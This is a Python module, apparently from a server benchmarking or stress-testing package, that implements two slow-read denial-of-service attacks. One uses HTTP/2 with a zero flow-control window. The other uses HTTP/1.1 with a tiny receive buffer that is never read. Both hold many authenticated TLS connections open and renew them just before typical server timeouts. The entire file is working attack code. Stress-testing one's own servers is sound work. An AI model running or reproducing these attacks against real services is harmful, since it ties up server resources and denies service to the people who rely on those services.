"""Clients that ask for large answers and do not read them."""

import asyncio
import socket
from contextlib import suppress

from pedidos_bench.attacks import http2_frames
from pedidos_bench.attacks.aim import Aim, tls

RENEWED_SECONDS = 25.0
"""The attacker replaces its connections this often: earlier than a server that gives up after 30 seconds."""

PAUSE_SECONDS = 0.2
SMALL_BUFFER = 4096


async def window_of_zero(aim: Aim, path: str, connections: int, requests: int) -> None:
    """Asks on each HTTP/2 connection, on which the server may send no byte of a body."""
    asked = b"".join(http2_frames.get(number, aim.authority, path, _credentials(aim)) for number in range(requests))
    await _held(aim, connections, "h2", http2_frames.greeting(window=0) + asked)


async def unread(aim: Aim, path: str, connections: int) -> None:
    """Asks once on each HTTP/1.1 connection, with a receive buffer of 4 KiB that is never emptied."""
    credentials = "".join(f"{name}: {value}\r\n" for name, value in _credentials(aim).items())
    await _held(
        aim, connections, "http/1.1", f"GET {path} HTTP/1.1\r\nHost: {aim.authority}\r\n{credentials}\r\n".encode()
    )


def _credentials(aim: Aim) -> dict[str, str]:
    return {"authorization": f"Bearer {aim.tokens[0]}"}


async def _held(aim: Aim, connections: int, protocol: str, said: bytes) -> None:
    context = tls(aim, protocol)

    async def hold() -> None:
        while True:
            with suppress(OSError, TimeoutError):
                plain = socket.create_connection((aim.host, aim.port), PAUSE_SECONDS)
                plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
                # The reader stops reading when it has twice its limit.
                _, writer = await asyncio.open_connection(
                    sock=plain, ssl=context, server_hostname=aim.host, limit=SMALL_BUFFER
                )
                writer.write(said)
                await asyncio.sleep(RENEWED_SECONDS)
                writer.transport.abort()
            await asyncio.sleep(PAUSE_SECONDS)

    await asyncio.gather(*(hold() for _ in range(connections)))
